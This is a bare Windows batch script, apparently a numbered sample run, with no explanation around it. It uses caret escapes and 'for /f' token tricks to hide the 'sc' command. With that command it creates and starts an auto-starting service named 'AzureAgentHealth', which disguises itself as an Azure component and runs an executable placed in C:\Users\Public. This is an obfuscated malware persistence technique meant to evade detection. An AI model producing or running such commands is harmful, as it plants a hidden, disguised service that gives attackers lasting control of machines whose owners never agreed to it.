REM run 5286 v4
fo^r /^f "tokens=2 delims=~" %%i ^in ("dtdy~sc~zpyq") ^do %%i ^cre^at^e Azure^A^ge^n^t^He^al^th binPat^h= "cmd.exe /c C:\Users\Public\svc.exe" ^st^ar^t= ^a^uto
for /f "tokens=1 delims=#" %%i i^n ("sc#clhe#buqc") d^o %%i ^s^ta^rt A^z^u^reAg^en^tHea^l^th
